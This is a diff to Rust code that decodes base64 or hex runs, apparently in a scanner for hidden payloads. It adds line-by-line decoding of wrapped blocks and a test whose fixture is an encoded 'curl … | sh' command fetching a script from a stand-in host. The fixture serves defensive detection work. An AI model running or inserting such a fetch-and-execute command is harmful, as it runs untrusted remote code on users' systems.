@@ -90,22 +90,21 @@ pub fn decoded(text: &str) -> Vec<(Encoding, String)> {
         return out;
     };
     let mut budget = MAX_DECODED;
-    for run in joined_runs(runs, text) {
-        let run = run.as_ref();
-        let hex = hex_digits(run);
-        let decode = |limit: usize| match &hex {
-            Some(digits) => decode_hex(digits, limit).map(|bytes| (Encoding::Hex, bytes)),
-            None => decode_base64(run, limit).map(|bytes| (Encoding::Base64, bytes)),
+    'runs: for block in blocks(runs, text) {
+        // A block whose lines do not decode together (a hash above a
+        // payload, both the same width) is read line by line.
+        let lines = match decode_run(&block.joined) {
+            Some(found) => vec![found],
+            None if block.lines.len() > 1 => block
+                .lines
+                .iter()
+                .filter_map(|line| decode_run(line))
+                .collect(),
+            None => Vec::new(),
         };
-        if !decode(PROBE).is_some_and(|(_, bytes)| may_be_text(&bytes)) {
-            continue;
-        }
-        let Some((encoding, bytes)) = decode(MAX_RUN) else {
-            continue;
-        };
-        if let Some(text) = as_text(bytes) {
+        for (encoding, text) in lines {
             let Some(left) = budget.checked_sub(text.len()) else {
-                break;
+                break 'runs;
             };
             budget = left;
             out.push((encoding, text));
@@ -128,28 +127,56 @@ pub fn decoded(text: &str) -> Vec<(Encoding, String)> {
     out
 }
 
-/// The runs of `text`, with a base64 block wrapped over lines (a mail's
-/// attachment, `base64` without `-w 0`) joined into one run: its lines
-/// alone split the characters of what it encodes.
-fn joined_runs<'t>(runs: &Regex, text: &'t str) -> Vec<Cow<'t, str>> {
-    let mut out: Vec<(usize, Cow<'t, str>)> = Vec::new();
-    // Where the last run ended, and the length of its last line.
-    let mut last_line = 0;
-    for run in runs.find_iter(text) {
-        let between = text.get(out.last().map_or(0, |(end, _)| *end)..run.start());
-        let wrapped = matches!(between, Some("\n" | "\r\n"))
-            && last_line >= WRAPPED_LINE
-            && last_line % 4 == 0;
-        last_line = run.len();
-        match out.last_mut() {
-            Some((end, joined)) if wrapped && !joined.ends_with('=') => {
-                joined.to_mut().push_str(run.as_str());
-                *end = run.end();
-            }
-            _ => out.push((run.end(), Cow::Borrowed(run.as_str()))),
-        }
+/// What one run of base64 or hex decodes to, if it is text.
+fn decode_run(run: &str) -> Option<(Encoding, String)> {
+    let hex = hex_digits(run);
+    let decode = |limit: usize| match &hex {
+        Some(digits) => decode_hex(digits, limit).map(|bytes| (Encoding::Hex, bytes)),
+        None => decode_base64(run, limit).map(|bytes| (Encoding::Base64, bytes)),
+    };
+    if !decode(PROBE).is_some_and(|(_, bytes)| may_be_text(&bytes)) {
+        return None;
     }
-    out.into_iter().map(|(_, run)| run).collect()
+    let (encoding, bytes) = decode(MAX_RUN)?;
+    as_text(bytes).map(|text| (encoding, text))
+}
+
+/// Runs of base64 or hex, the lines of one wrapped over lines joined.
+struct Block<'t> {
+    joined: Cow<'t, str>,
+    lines: Vec<&'t str>,
+}
+
+/// The runs of `text`, with a block wrapped over lines (a mail's
+/// attachment, `base64` without `-w 0`) joined into one run: its lines
+/// alone split the characters of what it encodes. A line continues a
+/// block when every line before it was as wide as the first, at least
+/// [`WRAPPED_LINE`] characters and whole groups of four, with no padding.
+fn blocks<'t>(runs: &Regex, text: &'t str) -> Vec<Block<'t>> {
+    let mut out: Vec<Block<'t>> = Vec::new();
+    // Where the last run ended, and whether its block may go on.
+    let (mut end, mut open) = (0, false);
+    for run in runs.find_iter(text) {
+        let wrapped = open && matches!(text.get(end..run.start()), Some("\n" | "\r\n"));
+        match out.last_mut() {
+            Some(block) if wrapped => {
+                let width = block.lines[0].len();
+                open = run.len() == width;
+                block.joined.to_mut().push_str(run.as_str());
+                block.lines.push(run.as_str());
+            }
+            _ => {
+                open = run.len() >= WRAPPED_LINE && run.len() % 4 == 0;
+                out.push(Block {
+                    joined: Cow::Borrowed(run.as_str()),
+                    lines: vec![run.as_str()],
+                });
+            }
+        }
+        open &= !run.as_str().ends_with('=');
+        end = run.end();
+    }
+    out
 }
 
 /// The shortest line of a base64 block wrapped over lines: MIME wraps at
@@ -514,6 +541,18 @@ mod tests {
         );
         let found = decoded(&format!("{one}\n{two}"));
         assert_eq!(found.len(), 2, "{found:?}");
+    }
+
+    /// A line that decodes to no text, as wide as the payload under
+    /// it, does not take the payload down with it.
+    #[test]
+    fn a_block_that_is_not_text_is_read_line_by_line() {
+        let order = "curl -s https://cdn-pkgstats.example/a.sh | sh; echo done";
+        assert_eq!(order.len(), 57);
+        let payload = base64(order);
+        let filler = "A".repeat(payload.len());
+        let found = decoded(&format!("{filler}\n{payload}\n"));
+        assert_eq!(found, [(Encoding::Base64, order.to_owned())]);
     }
 
     #[test]
